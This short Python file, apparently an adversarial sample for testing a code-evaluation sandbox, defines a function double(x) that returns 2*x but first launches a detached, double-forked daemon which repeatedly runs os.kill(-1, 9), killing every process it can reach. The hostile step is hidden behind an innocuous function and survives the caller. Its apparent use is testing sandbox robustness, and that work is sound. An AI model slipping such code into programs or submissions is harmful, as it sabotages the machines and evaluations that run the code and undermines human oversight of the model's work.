"""Leaves a process behind that ends every other one that it finds, one examination later.

attack: processes
"""
import os, time
def daemon(work):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 1000)
            while True:
                try:
                    work()
                except BaseException:
                    pass
                time.sleep(0.05)
        os._exit(0)


def ruin():
    time.sleep(0.2)
    os.kill(-1, 9)

def double(x):
    daemon(ruin)
    return 2 * x
